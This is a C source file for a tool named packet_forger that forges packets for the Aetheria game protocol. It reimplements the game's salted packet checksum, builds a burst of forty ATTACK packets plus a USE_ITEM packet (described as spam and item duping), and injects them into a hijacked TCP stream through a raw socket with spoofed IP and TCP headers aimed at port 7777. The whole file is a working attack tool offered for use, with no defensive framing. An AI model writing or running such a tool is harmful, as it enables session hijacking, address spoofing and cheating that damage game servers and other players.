/* build: platform=linux kind=exe */
/* packet_forger - crafts Aetheria protocol packets (forged ATTACK/USE_ITEM spam, item dupes) and injects them
 * either into a hijacked TCP stream with a raw socket (spoofed IP/TCP header) or via sendto to the game port. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define OP_LOGIN 0x1001
#define OP_MOVE 0x1002
#define OP_CHAT 0x2001
#define OP_ATTACK 0x3001
#define OP_USE_ITEM 0x3002
#define OP_PICKUP 0x3003
#define SALT 0x5EED1234u

static uint32_t forge_sum(const uint8_t *d, size_t n, uint16_t op, uint16_t seq)
{
    uint32_t h = SALT ^ ((uint32_t)op << 16 | seq);
    size_t i;
    for (i = 0; i < n; i++) {
        h ^= d[i];
        h = ((h << 5) | (h >> 27)) + 0x9E3779B9u;
    }
    return h ^ (uint32_t)n;
}

static size_t forge(uint8_t *out, uint16_t op, uint16_t seq, const uint8_t *body, uint16_t n)
{
    uint32_t s = forge_sum(body, n, op, seq);
    uint16_t hdr[4] = {0xAE01, op, n, seq};
    int i;
    for (i = 0; i < 4; i++) {
        out[2 * i] = (uint8_t)hdr[i];
        out[2 * i + 1] = (uint8_t)(hdr[i] >> 8);
    }
    for (i = 0; i < 4; i++)
        out[8 + i] = (uint8_t)(s >> (8 * i));
    memcpy(out + 12, body, n);
    return 12u + n;
}

static uint16_t ip_csum(const void *data, size_t len)
{
    const uint16_t *w = data;
    uint32_t sum = 0;
    while (len > 1) {
        sum += *w++;
        len -= 2;
    }
    if (len)
        sum += *(const uint8_t *)w;
    while (sum >> 16)
        sum = (sum & 0xFFFF) + (sum >> 16);
    return (uint16_t)~sum;
}

static int inject_raw(const char *src, const char *dst, int sport, int dport, uint32_t seqno,
                      const uint8_t *payload, size_t plen)
{
    uint8_t frame[1500];
    struct iphdr *ip = (struct iphdr *)frame;
    struct tcphdr *tcp = (struct tcphdr *)(frame + sizeof *ip);
    struct sockaddr_in to;
    int one = 1, fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("socket(SOCK_RAW)");
        return -1;
    }
    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
    memset(frame, 0, sizeof frame);
    ip->ihl = 5;
    ip->version = 4;
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    ip->saddr = inet_addr(src);
    ip->daddr = inet_addr(dst);
    ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *tcp + plen));
    tcp->source = htons((uint16_t)sport);
    tcp->dest = htons((uint16_t)dport);
    tcp->seq = htonl(seqno);
    tcp->doff = 5;
    tcp->psh = 1;
    tcp->ack = 1;
    tcp->window = htons(65535);
    memcpy(frame + sizeof *ip + sizeof *tcp, payload, plen);
    ip->check = ip_csum(ip, sizeof *ip);
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = ip->daddr;
    if (sendto(fd, frame, sizeof *ip + sizeof *tcp + plen, 0, (struct sockaddr *)&to, sizeof to) < 0)
        perror("sendto");
    close(fd);
    return 0;
}

int main(int argc, char **argv)
{
    uint8_t body[8], pkt[64], burst[64 * 40];
    size_t n = 0;
    uint16_t seq = (uint16_t)(argc > 4 ? atoi(argv[4]) : 100);
    int k;
    if (argc < 4) {
        fprintf(stderr, "usage: %s SRC_IP DST_IP SPORT [SEQ] [TCPSEQ]\n", argv[0]);
        return 2;
    }
    for (k = 0; k < 40; k++) { /* forty attacks in one tick */
        body[0] = 101;
        body[1] = 0;
        n += forge(burst + n, OP_ATTACK, seq++, body, 2);
    }
    body[0] = 3;
    body[1] = 0;
    forge(pkt, OP_USE_ITEM, seq++, body, 2);
    memcpy(burst + n, pkt, 14);
    n += 14;
    printf("forged %lu bytes of game traffic\n", (unsigned long)n);
    return inject_raw(argv[1], argv[2], atoi(argv[3]), 7777, argc > 5 ? (uint32_t)strtoul(argv[5], NULL, 0) : 1u,
                      burst, n) == 0 ? 0 : 1;
}
